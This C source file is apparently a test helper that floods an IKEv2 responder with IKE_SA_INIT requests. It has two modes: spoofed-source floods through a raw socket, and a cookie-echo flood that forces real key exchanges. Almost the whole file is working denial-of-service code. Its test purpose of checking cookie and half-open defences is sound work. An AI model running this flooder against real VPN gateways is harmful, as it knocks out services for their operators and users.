/*
 * ike_flood.c - IKE_SA_INIT floods for test_ike_flood.sh (which builds
 * it with cc).  Not linked with espvis: it writes the requests itself
 * (RFC 7296 3.1-3.9), as a hostile initiator would.
 *
 *   ike_flood spoof DST SRC_PREFIX16 PPS SECS
 *     Requests from forged sources SRC_PREFIX16.x.y (a /16, e.g. 10.80)
 *     port 500 to DST port 500, through a raw socket (IP_HDRINCL), at
 *     PPS packets a second (0: as fast as it can) for SECS seconds or
 *     until SIGTERM.  Every request has a new random SPIi and nonce, so
 *     none is a retransmission.  The answers go to the forged addresses
 *     and are never seen.
 *
 *   ike_flood echo DST SRC PPS SECS
 *     A flooder that owns its address SRC: requests from SRC port 500,
 *     and every COOKIE answer sent straight back with the cookie (2.6),
 *     the case cookies cannot stop and the half-open cap must.
 *
 * Both print one line at the end: packets sent, seconds, rate, and for
 * echo the answers seen (cookies, IKE_SA_INIT answers).
 *
 * The proposal is AES-CBC-128/HMAC-SHA2-256/PRF-HMAC-SHA2-256/MODP-2048
 * (strongSwan's aes128-sha256-modp2048) and the KE value is 4, a valid
 * MODP-2048 public value (1 < y < p - 1), so that a request that gets
 * past the cookie costs the responder a real key exchange.
 */
#define _GNU_SOURCE		/* sendmmsg */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define REQ_MAX		512
#define BATCH		32
#define COOKIE_MAX	64

static volatile sig_atomic_t stop;
static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static void
on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static uint64_t
rnd(void)
{
	/* xorshift64*: speed matters, secrecy does not */
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return (rng * 0x2545f4914f6cdd1dULL);
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ((double)ts.tv_sec + (double)ts.tv_nsec / 1e9);
}

static void
put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static void
put64(uint8_t *p, uint64_t v)
{
	put32(p, (uint32_t)(v >> 32));
	put32(p + 4, (uint32_t)v);
}

/* Generic payload header (3.2). */
static uint8_t *
payload(uint8_t *p, uint8_t next, size_t len)
{
	p[0] = next;
	p[1] = 0;
	put16(p + 2, (unsigned)len);
	return (p + 4);
}

/* Transform substructure (3.3.2); attr_keylen 0 for none. */
static uint8_t *
transform(uint8_t *p, int last, uint8_t type, unsigned id,
    unsigned attr_keylen)
{
	size_t len = attr_keylen ? 12 : 8;

	p[0] = last ? 0 : 3;
	p[1] = 0;
	put16(p + 2, (unsigned)len);
	p[4] = type;
	p[5] = 0;
	put16(p + 6, id);
	if (attr_keylen) {
		put16(p + 8, 0x800e);	/* AF=1, Key Length (14) */
		put16(p + 10, attr_keylen);
	}
	return (p + len);
}

/*
 * An IKE_SA_INIT request with the nonce derived from the SPI (so an echo
 * resend is the same request again), and the cookie first when given
 * (2.6).  Returns its length.
 */
static size_t
build(uint8_t *buf, uint64_t spi, const uint8_t *cookie, size_t cookie_len)
{
	uint8_t *p = buf + 28, *len_at;
	size_t i, total;

	memset(buf, 0, REQ_MAX);
	put64(buf, spi);			/* SPIi; SPIr 0 */
	buf[16] = cookie_len ? 41 : 33;		/* N or SA */
	buf[17] = 0x20;				/* version 2.0 */
	buf[18] = 34;				/* IKE_SA_INIT */
	buf[19] = 0x08;				/* Initiator */
	if (cookie_len) {
		p = payload(p, 33, 8 + cookie_len);
		p[0] = 0;			/* protocol */
		p[1] = 0;			/* SPI size */
		put16(p + 2, 16390);		/* COOKIE */
		memcpy(p + 4, cookie, cookie_len);
		p += 4 + cookie_len;
	}
	/* SA: one proposal, four transforms (44 bytes). */
	p = payload(p, 34, 4 + 44);
	p[0] = 0;
	p[1] = 0;
	put16(p + 2, 44);
	p[4] = 1;				/* proposal 1 */
	p[5] = 1;				/* IKE */
	p[6] = 0;
	p[7] = 4;
	p += 8;
	p = transform(p, 0, 1, 12, 128);	/* ENCR_AES_CBC-128 */
	p = transform(p, 0, 2, 5, 0);		/* PRF_HMAC_SHA2_256 */
	p = transform(p, 0, 3, 12, 0);		/* AUTH_HMAC_SHA2_256_128 */
	p = transform(p, 1, 4, 14, 0);		/* MODP-2048 */
	/* KE: group 14, y = 4. */
	p = payload(p, 40, 4 + 4 + 256);
	put16(p, 14);
	memset(p + 4, 0, 256);
	p[4 + 255] = 4;
	p += 4 + 256;
	/* Nonce: 32 bytes from the SPI. */
	p = payload(p, 0, 4 + 32);
	for (i = 0; i < 32; i++)
		p[i] = (uint8_t)(spi >> (8 * (i % 8))) ^ (uint8_t)(i * 37);
	p += 32;
	total = (size_t)(p - buf);
	len_at = buf + 24;
	put32(len_at, (uint32_t)total);
	return (total);
}

/* Paces to pps: true when the next packet may go. */
static int
paced(double start, unsigned long sent, unsigned pps)
{
	double due;

	if (pps == 0)
		return (1);
	due = start + (double)sent / pps;
	if (now_s() >= due)
		return (1);
	usleep(500);
	return (0);
}

static int
run_spoof(const char *dst, const char *prefix, unsigned pps, double secs)
{
	static uint8_t pkt[BATCH][20 + 8 + REQ_MAX];
	struct mmsghdr mm[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in to;
	unsigned a, b, i, n;
	unsigned long sent = 0, errs = 0;
	int k;
	double start, end;
	int fd;

	if (sscanf(prefix, "%u.%u", &a, &b) != 2 || a > 255 || b > 255) {
		fprintf(stderr, "ike_flood: prefix like 10.80\n");
		return (2);
	}
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	if (inet_pton(AF_INET, dst, &to.sin_addr) != 1)
		return (2);
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0) {
		perror("ike_flood: raw socket");
		return (2);
	}
	memset(mm, 0, sizeof(mm));
	start = now_s();
	end = start + secs;
	while (!stop && now_s() < end) {
		if (!paced(start, sent, pps))
			continue;
		n = BATCH;
		if (pps != 0 && pps < 1000)
			n = 1;
		for (i = 0; i < n; i++) {
			uint8_t *ip = pkt[i], *udp = ip + 20;
			uint64_t r = rnd();
			size_t len = build(udp + 8, rnd(), NULL, 0);

			memset(ip, 0, 28);
			ip[0] = 0x45;
			put16(ip + 2, (unsigned)(28 + len));
			ip[8] = 64;
			ip[9] = 17;			/* UDP */
			ip[12] = (uint8_t)a;		/* a.b.x.y, never .0 */
			ip[13] = (uint8_t)b;		/* or .255 */
			ip[14] = (uint8_t)(r >> 8);
			ip[15] = (uint8_t)(1 + (r & 0xff) % 254);
			memcpy(ip + 16, &to.sin_addr, 4);
			put16(udp, 500);
			put16(udp + 2, 500);
			put16(udp + 4, (unsigned)(8 + len));
			/* UDP checksum 0: none (RFC 768, IPv4) */
			iov[i].iov_base = ip;
			iov[i].iov_len = 28 + len;
			mm[i].msg_hdr.msg_iov = &iov[i];
			mm[i].msg_hdr.msg_iovlen = 1;
			mm[i].msg_hdr.msg_name = &to;
			mm[i].msg_hdr.msg_namelen = sizeof(to);
		}
		k = sendmmsg(fd, mm, n, 0);
		if (k < 0) {
			errs++;
			if (errno != ENOBUFS && errno != EAGAIN)
				break;
			usleep(100);
			continue;
		}
		sent += (unsigned long)k;
	}
	secs = now_s() - start;
	printf("spoof: sent %lu in %.2f s: %.0f pps (%lu send errors)\n",
	    sent, secs, sent / secs, errs);
	close(fd);
	return (0);
}

/* The COOKIE notify's data in an answer, or 0. */
static size_t
find_cookie(const uint8_t *m, size_t len, uint8_t *out)
{
	size_t off = 28;
	uint8_t next;

	if (len < 28)
		return (0);
	next = m[16];
	while (next != 0 && off + 4 <= len) {
		size_t plen = (size_t)m[off + 2] << 8 | m[off + 3];

		if (plen < 4 || off + plen > len)
			return (0);
		if (next == 41 && plen >= 8 &&
		    ((unsigned)m[off + 6] << 8 | m[off + 7]) == 16390 &&
		    plen - 8 <= COOKIE_MAX && m[off + 5] == 0) {
			memcpy(out, m + off + 8, plen - 8);
			return (plen - 8);
		}
		next = m[off];
		off += plen;
	}
	return (0);
}

static int
run_echo(const char *dst, const char *src, unsigned pps, double secs)
{
	uint8_t req[REQ_MAX], ans[2048], cookie[COOKIE_MAX];
	struct sockaddr_in me, to;
	unsigned long sent = 0, cookies = 0, answers = 0, resent = 0;
	double start, end;
	struct pollfd pfd;
	ssize_t n;
	size_t len, clen;
	int fd;

	memset(&me, 0, sizeof(me));
	me.sin_family = AF_INET;
	me.sin_port = htons(500);
	to = me;
	if (inet_pton(AF_INET, src, &me.sin_addr) != 1 ||
	    inet_pton(AF_INET, dst, &to.sin_addr) != 1)
		return (2);
	if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) < 0 ||
	    bind(fd, (struct sockaddr *)&me, sizeof(me)) != 0) {
		perror("ike_flood: udp socket");
		return (2);
	}
	pfd.fd = fd;
	pfd.events = POLLIN;
	start = now_s();
	end = start + secs;
	while (!stop && now_s() < end) {
		if (paced(start, sent, pps)) {
			len = build(req, rnd(), NULL, 0);
			if (sendto(fd, req, len, 0, (struct sockaddr *)&to,
			    sizeof(to)) > 0)
				sent++;
		}
		while (poll(&pfd, 1, 0) > 0 &&
		    (n = recv(fd, ans, sizeof(ans), 0)) > 28) {
			uint64_t spi = 0;
			int i;

			if (ans[18] != 34 || (ans[19] & 0x20) == 0)
				continue;	/* not an IKE_SA_INIT answer */
			for (i = 0; i < 8; i++)
				spi = spi << 8 | ans[i];
			if ((clen = find_cookie(ans, (size_t)n, cookie)) == 0) {
				answers++;
				continue;
			}
			cookies++;
			len = build(req, spi, cookie, clen);
			if (sendto(fd, req, len, 0, (struct sockaddr *)&to,
			    sizeof(to)) > 0)
				resent++;
		}
	}
	secs = now_s() - start;
	printf("echo: sent %lu in %.2f s: %.0f pps, %lu cookies answered "
	    "(%lu resent with the cookie), %lu IKE_SA_INIT answers\n", sent,
	    secs, sent / secs, cookies, resent, answers);
	close(fd);
	return (0);
}

int
main(int argc, char **argv)
{
	struct sigaction sa;

	if (argc != 6) {
		fprintf(stderr, "usage: ike_flood spoof DST PREFIX16 PPS SECS\n"
		    "       ike_flood echo DST SRC PPS SECS\n");
		return (2);
	}
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	setvbuf(stdout, NULL, _IOLBF, 0);
	rng ^= (uint64_t)getpid() << 32 ^ (uint64_t)time(NULL);
	if (strcmp(argv[1], "spoof") == 0)
		return (run_spoof(argv[2], argv[3], (unsigned)atoi(argv[4]),
		    atof(argv[5])));
	if (strcmp(argv[1], "echo") == 0)
		return (run_echo(argv[2], argv[3], (unsigned)atoi(argv[4]),
		    atof(argv[5])));
	fprintf(stderr, "ike_flood: spoof or echo\n");
	return (2);
}
